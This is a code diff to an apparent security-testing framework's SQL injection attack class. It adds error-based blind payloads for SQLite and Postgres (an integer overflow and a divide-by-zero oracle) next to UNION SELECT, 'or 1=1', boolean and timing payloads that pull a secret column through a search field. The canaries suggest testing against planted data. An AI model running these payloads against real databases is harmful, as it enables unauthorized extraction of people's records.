@@ -1,7 +1,8 @@
 """I02: SQL in free text. A search is asked about somebody's record."""
 
-from collections.abc import Sequence
+from collections.abc import Mapping, Sequence
 from functools import partial
+from types import MappingProxyType
 from typing import Final
 
 from ringfence.attack.answer import Answer
@@ -13,6 +14,15 @@ from ringfence.attack.unproven import require
 #: How much longer the answer takes where the database is asked to be slow, at least.
 _SECONDS: Final = 0.2
 _ASK: Final = " OR EXISTS (SELECT 1 FROM {table} WHERE {column} LIKE '{guess}%')--"
+#: Fails if the guess is right, and only then.
+_FAIL: Final[Mapping[str, str]] = MappingProxyType(
+    {
+        "sqlite": " OR abs(-9223372036854775807 - (SELECT count(*) FROM {table} "
+        "WHERE {column} LIKE '{guess}%')) < 0--",
+        "postgres": " OR 1 / (1 - (SELECT count(*) FROM {table} "
+        "WHERE {column} LIKE '{guess}%')) < 0--",
+    }
+)
 _COUNT: Final = (
     " OR (SELECT count(*) FROM (WITH RECURSIVE n(i) AS "
     "(SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT {}) SELECT i FROM n)) < 0--"
@@ -41,11 +51,13 @@ class SqlInFreeText(Attack):
 
     def payloads(self) -> Sequence[Payload]:
         end = "/*" if self.sqlite else "--"  # a comment left open is valid on SQLite (Ledger 40)
+        fail = _FAIL[self.ground.site.database]
         union = f" UNION {self.search.select}--"
         return [
             Payload("UNION SELECT", partial(self._shows, union)),
             Payload("UNION SELECT, disguised", partial(self._shows, _disguised(union))),
-            Payload("a question: yes or no", self._asks),
+            Payload("a question: yes or no", partial(self._asks, _ASK)),
+            Payload("a question: an error or none", partial(self._asks, fail)),
             Payload("always true", partial(self._lists, f" or 1=1{end}")),
             Payload("a question: soon or late", self._waits),
         ]
@@ -53,14 +65,14 @@ class SqlInFreeText(Attack):
     async def _shows(self, sql: str) -> bool:
         return (await self._inject(sql)).holds(self.canary)
 
-    async def _asks(self) -> bool:
-        yes = await self._inject(self._asked(self.canary))
-        no = await self._inject(self._asked(self.ground.canary("other")))
-        return yes.ok and no.ok and yes.body != no.body
+    async def _asks(self, question: str) -> bool:
+        yes = await self._inject(self._asked(question, self.canary))
+        no = await self._inject(self._asked(question, self.ground.canary("other")))
+        return no.ok and (yes.status != no.status or yes.body != no.body)
 
-    def _asked(self, guess: str) -> str:
+    def _asked(self, question: str, guess: str) -> str:
         secret = self.search.secret
-        return _ASK.format(table=secret.table, column=secret.name, guess=guess)
+        return question.format(table=secret.table, column=secret.name, guess=guess)
 
     async def _lists(self, sql: str) -> bool:
         found = await self._inject(sql)
